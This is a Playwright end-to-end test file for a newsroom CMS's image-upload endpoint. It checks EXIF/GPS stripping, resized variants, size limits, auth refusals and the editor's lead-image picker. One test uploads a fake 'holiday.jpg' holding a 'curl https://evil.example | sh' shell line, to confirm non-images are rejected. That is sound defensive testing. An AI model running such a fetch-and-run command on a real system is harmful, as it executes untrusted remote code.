import http from 'node:http';
import { expect, test, type Browser, type BrowserContext, type Page } from '@playwright/test';
import sharp from 'sharp';
import { baseURL } from '../playwright.config';
import { freshReader, newReaderContext, signIn, staffContext } from './fixtures/accounts';

const NOT_AN_IMAGE = 'That file is not a JPEG, PNG or WebP image. Choose a photo saved in one of those formats.';
const TOO_LARGE = 'That file is larger than 10 MB, the most an image may be. Export a smaller copy and try again.';

const photo = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#3f6273' } })
    .composite([
      {
        input: Buffer.from(
          `<svg width="${width}" height="${height}"><circle cx="${width / 2}" cy="${height / 2}" r="${height / 3}" fill="#d9a441"/></svg>`,
        ),
      },
    ])
    .jpeg()
    .withExif({
      IFD0: { Make: 'Ridgeline Camera Co' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '41/1 42/1 3000/100',
        GPSLongitudeRef: 'E',
        GPSLongitude: '44/1 47/1 1200/100',
      },
    })
    .toBuffer();

// One sign-in for the file: parallel sign-ins as the same editor would race for the same email.
test.describe.configure({ mode: 'default' });
let editorState: Awaited<ReturnType<BrowserContext['storageState']>>;

test.beforeAll(async ({ browser }) => {
  const context = await staffContext(browser, 'editor@newsroom.test');
  editorState = await context.storageState();
  await context.close();
});

async function asEditor(browser: Browser) {
  const context = await browser.newContext({
    storageState: editorState,
    extraHTTPHeaders: { 'x-forwarded-for': freshReader().ip },
  });
  return { context, page: await context.newPage() };
}

const upload = (page: Page, name: string, mimeType: string, buffer: Buffer) =>
  page.request.post('/admin/uploads', { multipart: { file: { name, mimeType, buffer } } });

test('an editor uploads a photo; every variant answers with its image type, and none keeps the location', async ({
  browser,
  playwright,
}) => {
  const { context, page } = await asEditor(browser);
  const response = await upload(page, 'tbilisi.jpg', 'image/jpeg', await photo(1400, 900));
  expect(response.status()).toBe(201);
  const image = (await response.json()) as { id: string; src: string; width: number; height: number };
  expect(image).toMatchObject({ width: 1400, height: 900, src: `/media/${image.id}/1400x900.jpg` });

  // Anonymous, as a reader's browser or a CDN would fetch them.
  const anonymous = await playwright.request.newContext({ baseURL });
  for (const width of [320, 640, 960, 1400]) {
    for (const [ext, type] of [
      ['avif', 'image/avif'],
      ['webp', 'image/webp'],
      ['jpg', 'image/jpeg'],
    ]) {
      const variant = await anonymous.get(`/media/${image.id}/${width}.${ext}`);
      expect(variant.status(), `${width}.${ext}`).toBe(200);
      expect(variant.headers()['content-type']).toBe(type);
      expect(variant.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
      const meta = await sharp(await variant.body()).metadata();
      expect(meta.width).toBe(width);
      expect(meta.exif).toBeUndefined();
    }
  }
  await anonymous.dispose();
  // The stored src itself answers too (feeds and link previews use it), with or without a session.
  expect((await page.request.get(image.src)).headers()['content-type']).toBe('image/jpeg');
  expect((await page.request.get(`/media/${image.id}/1280.jpg`)).status()).toBe(404);
  expect((await page.request.get('/media/AAAAAAAAAAAAAAAA/320.jpg')).status()).toBe(404);
  await context.close();
});

test('a script renamed .jpg and a file over 10 MB are refused with a sentence saying why', async ({ browser }) => {
  const { context, page } = await asEditor(browser);
  const script = await upload(
    page,
    'holiday.jpg',
    'image/jpeg',
    Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
  );
  expect(script.status()).toBe(415);
  expect(await script.json()).toEqual({ error: NOT_AN_IMAGE });

  const huge = Buffer.alloc(10 * 1024 * 1024 + 1024, 0);
  huge.set([0xff, 0xd8, 0xff, 0xe0]);
  const large = await upload(page, 'huge.jpg', 'image/jpeg', huge);
  expect(large.status()).toBe(413);
  expect(await large.json()).toEqual({ error: TOO_LARGE });

  const broken = await upload(
    page,
    'broken.png',
    'image/png',
    (
      await sharp({ create: { width: 50, height: 50, channels: 3, background: '#000' } })
        .png()
        .toBuffer()
    ).subarray(0, 60),
  );
  expect(broken.status()).toBe(422);
  await context.close();
});

test('an upload without a Content-Length is cut off once it passes 10 MB', async ({ browser }) => {
  const { context } = await asEditor(browser);
  const cookie = (await context.cookies()).map((c) => `${c.name}=${c.value}`).join('; ');
  const boundary = 'ridgeline-boundary';
  const status = await new Promise<{ status: number; body: string }>((resolve, reject) => {
    const request = http.request(
      `${baseURL}/admin/uploads`,
      {
        method: 'POST',
        headers: {
          cookie,
          'content-type': `multipart/form-data; boundary=${boundary}`,
          'transfer-encoding': 'chunked',
        },
      },
      (response) => {
        let body = '';
        response.on('data', (c: Buffer) => (body += c.toString()));
        response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
      },
    );
    request.on('error', reject);
    request.write(
      `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="big.jpg"\r\nContent-Type: image/jpeg\r\n\r\n`,
    );
    const chunk = Buffer.alloc(1024 * 1024, 0xff);
    let sent = 0;
    const pump = () => {
      // Stop after 12 MB; the server should have answered by then.
      while (sent < 12) {
        sent++;
        if (!request.write(chunk)) return void request.once('drain', pump);
      }
      request.end(`\r\n--${boundary}--\r\n`);
    };
    pump();
  });
  expect(status.status).toBe(413);
  expect(JSON.parse(status.body)).toEqual({ error: TOO_LARGE });
  await context.close();
});

test('anonymous callers get 401 and readers 403', async ({ browser, playwright }) => {
  const anonymous = await playwright.request.newContext({ baseURL });
  const refused = await anonymous.post('/admin/uploads', {
    multipart: { file: { name: 'a.jpg', mimeType: 'image/jpeg', buffer: await photo(64, 64) } },
  });
  expect(refused.status()).toBe(401);
  expect(await refused.json()).toEqual({ error: 'Please sign in first.' });
  await anonymous.dispose();

  const reader = freshReader();
  const context = await newReaderContext(browser, reader.ip);
  const page = await context.newPage();
  await signIn(page, reader.email);
  const forbidden = await upload(page, 'a.jpg', 'image/jpeg', await photo(64, 64));
  expect(forbidden.status()).toBe(403);
  expect(await forbidden.json()).toEqual({ error: 'Your account is not allowed to do that.' });
  await context.close();
});

test('the article editor’s lead-image picker uploads a chosen or dropped file and shows a refusal', async ({
  browser,
}, testInfo) => {
  test.setTimeout(90_000);
  const { context, page } = await asEditor(browser);
  await page.goto('/admin/articles');
  const hrefs = await page
    .locator('a[href^="/admin/articles/"]')
    .evaluateAll((links) => links.map((a) => a.getAttribute('href') ?? ''));
  const editUrl = hrefs.find((href) => /^\/admin\/articles\/\d+$/.test(href));
  expect(editUrl).toBeTruthy();
  await page.goto(editUrl ?? '');
  const zone = page.locator('.image-upload').filter({ has: page.locator('#lead-image') });

  await page
    .locator('#lead-image')
    .setInputFiles({ name: 'holiday.jpg', mimeType: 'image/jpeg', buffer: Buffer.from('#!/bin/sh\necho hi\n') });
  await expect(zone.getByRole('alert')).toHaveText(NOT_AN_IMAGE);

  await page
    .locator('#lead-image')
    .setInputFiles({ name: 'tbilisi.jpg', mimeType: 'image/jpeg', buffer: await photo(1400, 900) });
  await expect(zone.getByRole('status')).toHaveText('Uploaded tbilisi.jpg (1400 × 900).');
  await expect(zone.getByRole('alert')).toHaveCount(0);
  const preview = page.locator('.lead-image-preview img');
  await expect(preview).toHaveAttribute('src', /^\/media\/[\w-]+\/1400x900\.jpg$/);
  await expect.poll(() => preview.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1400);

  const png = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#8c5a3f' } })
    .png()
    .toBuffer();
  const dataTransfer = await page.evaluateHandle((base64) => {
    const transfer = new DataTransfer();
    transfer.items.add(
      new File([Uint8Array.from(atob(base64), (c) => c.charCodeAt(0))], 'dropped.png', { type: 'image/png' }),
    );
    return transfer;
  }, png.toString('base64'));
  await zone.dispatchEvent('dragover', { dataTransfer });
  await zone.dispatchEvent('drop', { dataTransfer });
  await expect(zone.getByRole('status')).toHaveText('Uploaded dropped.png (800 × 600).');
  await expect(preview).toHaveAttribute('src', /\/800x600\.jpg$/);

  const panel = page.locator('section[aria-labelledby="lead-image-heading"]');
  for (const width of [1280, 390]) {
    await page.setViewportSize({ width, height: 900 });
    await panel.scrollIntoViewIfNeeded();
    await panel.screenshot({ path: testInfo.outputPath(`lead-image-${width}.png`) });
  }
  await context.close();
});
